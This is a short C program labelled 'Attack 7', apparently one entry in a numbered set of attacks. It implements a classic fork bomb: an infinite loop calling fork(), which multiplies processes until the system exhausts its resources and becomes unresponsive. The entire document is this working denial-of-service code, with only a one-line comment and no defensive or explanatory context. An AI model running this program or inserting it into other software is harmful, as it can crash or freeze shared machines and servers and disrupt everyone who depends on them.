/* Attack 7: the classic fork bomb. Every process forks forever. */
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
